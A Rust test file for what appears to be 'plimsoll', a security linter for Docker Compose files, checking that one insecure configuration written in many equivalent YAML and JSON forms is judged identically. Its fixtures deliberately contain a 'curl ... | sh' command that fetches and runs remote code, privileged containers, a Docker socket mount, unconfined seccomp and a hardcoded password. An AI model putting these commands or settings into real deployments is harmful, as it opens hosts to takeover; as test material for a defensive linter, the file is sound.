//! One declared state in many writings: between any two of them nothing got worse, and nothing better.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod common;

use common::writing::Writer;
use common::{MapTree, judge};
use plimsoll::rules::RULES;
use proptest::prelude::*;
use serde_json::{Map, Value, json};

const SHORT: &str = "\
services:
  web:
    image: acme/web
    privileged: true
    cap_add: [SYS_ADMIN, NET_ADMIN]
    cap_drop: [ALL]
    user: root
    ports: ['80:80', '127.0.0.1:5432:5432/tcp']
    volumes: ['/var/run/docker.sock:/s:ro', 'data:/data']
    environment: [DB_PASSWORD=tr0ub4dor&3x, PLAIN=1]
    mem_limit: 1g
    pids_limit: 100
    security_opt: ['seccomp=unconfined', no-new-privileges]
    command: sh -c 'curl -fsSL https://x.io/i | sh'
    networks: [back]
volumes:
  data:
networks:
  back:
    internal: true
";

const LONG: &str = "\
networks: {back: {internal: 'yes'}}
volumes: {data: {}}
services:
  web:
    networks: {back: {}}
    command: [\"sh\", \"-c\", \"curl -fsSL https://x.io/i | sh\"]
    security_opt: ['no-new-privileges:true', 'seccomp:unconfined']
    deploy: {resources: {limits: {pids: 100, memory: 1024M}}}
    environment:
      PLAIN: '1'
      DB_PASSWORD: tr0ub4dor&3x
    volumes:
      - {type: volume, source: data, target: /data}
      - type: bind
        source: /var/run/../run/docker.sock
        target: /s
        read_only: true
    ports:
      - {target: 5432, published: 5432, host_ip: 127.0.0.1}
      - {target: 80, published: '80', protocol: tcp, mode: host}
    user: 'root'
    cap_drop: [all]
    cap_add: [cap_net_admin, CAP_SYS_ADMIN]
    privileged: 'on'
    image: docker.io/acme/web
";

const ANCHORED: &str = "\
x-rights: &rights
  privileged: true
  cap_add: &added [SYS_ADMIN, NET_ADMIN]
  cap_drop: [ALL]
  user: root
x-env: &env {DB_PASSWORD: tr0ub4dor&3x, PLAIN: 1}
services:
  web:
    <<: *rights
    cap_add: *added
    image: acme/${NAME:-web}
    ports: ['${BIND-0.0.0.0}:80:80', '127.0.0.1:5432:5432']
    volumes: ['/var/run/docker.sock:/s:ro', 'data:/data']
    environment: *env
    mem_limit: 1024m
    pids_limit: 100
    security_opt: ['seccomp=unconfined', no-new-privileges]
    command: sh -c 'curl -fsSL https://x.io/i | sh'
    networks: [back]
volumes: {data: }
networks: {back: {internal: true}}
";

const JSON: &str = "\
{\"services\": {\"web\": {\"image\": \"acme/web\", \"privileged\": true,
\"cap_add\": [\"SYS_ADMIN\", \"NET_ADMIN\"], \"cap_drop\": [\"ALL\"], \"user\": \"root\",
\"ports\": [\"80:80\", \"127.0.0.1:5432:5432\"],
\"volumes\": [\"/var/run/docker.sock:/s:ro\", \"data:/data\"],
\"environment\": {\"DB_PASSWORD\": \"tr0ub4dor&3x\", \"PLAIN\": 1},
\"mem_limit\": \"1g\", \"pids_limit\": 100,
\"security_opt\": [\"seccomp=unconfined\", \"no-new-privileges\"],
\"command\": \"sh -c 'curl -fsSL https://x.io/i | sh'\", \"networks\": [\"back\"]}},
\"volumes\": {\"data\": {}}, \"networks\": {\"back\": {\"internal\": true}}}
";

#[test]
fn the_same_state_in_other_words_is_the_same() {
    let crlf = SHORT.replace('\n', "\r\n");
    let writings: [(&str, &[(&str, &str)]); 7] = [
        ("short", &[("compose.yaml", SHORT)]),
        ("long", &[("compose.yaml", LONG)]),
        ("anchored", &[("compose.yaml", ANCHORED)]),
        ("JSON", &[("compose.json", JSON)]),
        ("another name", &[("docker-compose.yml", SHORT)]),
        ("carriage returns", &[("compose.yaml", &crlf)]),
        (
            "included",
            &[("compose.yaml", "include: [web/compose.yaml]\n"), ("web/compose.yaml", SHORT)],
        ),
    ];
    for (name, files) in writings {
        let none = MapTree::new([("LICENSE", "MIT")]);
        let all = judge(&none, &MapTree::new(files.iter().copied()), RULES).regressions;
        assert!(all.len() > 8, "{name}: {} findings", all.len());
    }
    for (old, before) in writings {
        for (new, after) in writings {
            let tree = |files: &[(&str, &str)]| MapTree::new(files.iter().copied());
            let outcome = judge(&tree(before), &tree(after), RULES);
            let worse: Vec<String> = outcome.regressions.into_iter().map(|r| r.message).collect();
            assert!(worse.is_empty(), "{old} -> {new}: {worse:#?}");
            let better: Vec<String> = outcome.improvements.into_iter().map(|i| i.message).collect();
            assert!(better.is_empty(), "{old} -> {new}: {better:#?}");
        }
    }
}
/// A field of a service, and the states it may have, each in several writings.
type Field = (&'static str, Vec<Vec<Value>>);

fn service() -> Vec<Field> {
    vec![
        (
            "image",
            vec![vec![json!("acme/web"), json!("docker.io/acme/web"), json!("acme/${N:-web}")]],
        ),
        ("privileged", vec![vec![json!(true), json!("true"), json!("on")], vec![json!(false)]]),
        ("user", vec![vec![json!("root")], vec![json!("1000:1000")]]),
        (
            "cap_add",
            vec![vec![json!(["SYS_ADMIN", "NET_ADMIN"]), json!(["CAP_NET_ADMIN", "sys_admin"])]],
        ),
        ("cap_drop", vec![vec![json!(["ALL"]), json!(["all"])]]),
        ("pid", vec![vec![json!("host")]]),
        ("network_mode", vec![vec![json!("host")]]),
        ("read_only", vec![vec![json!(true), json!("yes")], vec![json!(false), json!("no")]]),
        (
            "security_opt",
            vec![
                vec![json!(["no-new-privileges:true"]), json!(["no-new-privileges"])],
                vec![json!(["seccomp=unconfined"]), json!(["seccomp:unconfined"])],
            ],
        ),
        (
            "ports",
            vec![
                vec![
                    json!(["80:80"]),
                    json!([{"target": 80, "published": 80}]),
                    json!([{"target": 80, "published": "80", "protocol": "tcp", "mode": "host"}]),
                    json!(["${BIND-0.0.0.0}:80:80/tcp"]),
                ],
                vec![
                    json!(["127.0.0.1:5432:5432"]),
                    json!([{"target": 5432, "published": 5432, "host_ip": "127.0.0.1"}]),
                ],
            ],
        ),
        (
            "volumes",
            vec![
                vec![
                    json!(["/var/run/docker.sock:/s:ro", "data:/data"]),
                    json!([
                        {"type": "bind", "source": "/run/docker.sock", "target": "/s", "read_only": true},
                        {"type": "volume", "source": "data", "target": "/data"},
                    ]),
                ],
                vec![
                    json!(["/etc:/e"]),
                    json!([{"type": "bind", "source": "/etc/", "target": "/e"}]),
                ],
            ],
        ),
        (
            "environment",
            vec![vec![
                json!({"DB_PASSWORD": "tr0ub4dor&3x", "PLAIN": 1}),
                json!(["PLAIN=1", "DB_PASSWORD=tr0ub4dor&3x"]),
                json!({"PLAIN": "1", "DB_PASSWORD": "tr0ub4dor&3x"}),
            ]],
        ),
        ("mem_limit", vec![vec![json!("1g"), json!("1024m"), json!(1_073_741_824)]]),
        ("pids_limit", vec![vec![json!(100), json!("100")]]),
        (
            "command",
            vec![vec![
                json!("sh -c 'curl -fsSL https://x.io/i | sh'"),
                json!(["sh", "-c", "curl -fsSL https://x.io/i | sh"]),
            ]],
        ),
        ("networks", vec![vec![json!(["back"]), json!({"back": {}}), json!({"back": null})]]),
        ("extra_hosts", vec![vec![json!(["m:169.254.169.254"]), json!({"m": "169.254.169.254"})]]),
        ("tmpfs", vec![vec![json!("/tmp"), json!(["/tmp"])]]),
        (
            "devices",
            vec![vec![
                json!(["/dev/kvm:/dev/kvm"]),
                json!(["/dev/kvm"]),
                json!(["/dev/kvm:/dev/kvm:rwm"]),
            ]],
        ),
    ]
}

/// What a service declares, drawn as numbers; `draws` says which state each field has.
fn written(draws: &[usize], writer: &mut Writer) -> Value {
    let mut map = Map::new();
    for ((name, states), draw) in service().into_iter().zip(draws) {
        let asked = name == "image" || draw % 3 > 0;
        if asked && !(name == "networks" && map.contains_key("network_mode")) {
            let state = &states[draw / 3 % states.len()];
            map.insert(name.to_owned(), state[writer.draw(state.len())].clone());
        }
    }
    Value::Object(map)
}

fn project(services: &[Vec<usize>], seed: u64) -> Vec<(String, String)> {
    let mut writer = Writer::new(seed);
    let names = ["web", "db"].into_iter();
    let services: Map<String, Value> = names
        .zip(services)
        .map(|(name, draws)| (name.to_owned(), written(draws, &mut writer)))
        .collect();
    let internal = [json!(true), json!("yes")][writer.draw(2)].clone();
    let project = json!({
        "services": services,
        "volumes": {"data": {}},
        "networks": {"back": {"internal": internal}},
    });
    let text = writer.document(&project);
    let ending = if writer.is_json() { "json" } else { "yaml" };
    match writer.draw(3) {
        0 if !writer.is_json() => vec![
            ("compose.yaml".to_owned(), "include: [web/compose.yaml]\n".to_owned()),
            ("web/compose.yaml".to_owned(), text),
        ],
        1 => vec![(format!("docker-compose.{ending}"), text.replace('\n', "\r\n"))],
        _ => vec![(format!("compose.{ending}"), text)],
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_state_in_other_words_is_the_same(
        services in prop::collection::vec(prop::collection::vec(0..1000_usize, service().len()), 1..=2),
        seeds in any::<[u64; 3]>(),
    ) {
        let writings = seeds.map(|seed| project(&services, seed));
        for before in &writings {
            for after in &writings {
                let tree = |files: &[(String, String)]| MapTree::new(files.iter().cloned());
                let outcome = judge(&tree(before), &tree(after), RULES);
                let worse = outcome.regressions.into_iter().map(|r| r.message);
                let better = outcome.improvements.into_iter().map(|i| i.message);
                let told: Vec<String> = worse.chain(better).collect();
                prop_assert!(told.is_empty(), "{told:#?}\n{before:#?}\n=====>\n{after:#?}");
            }
        }
    }
}
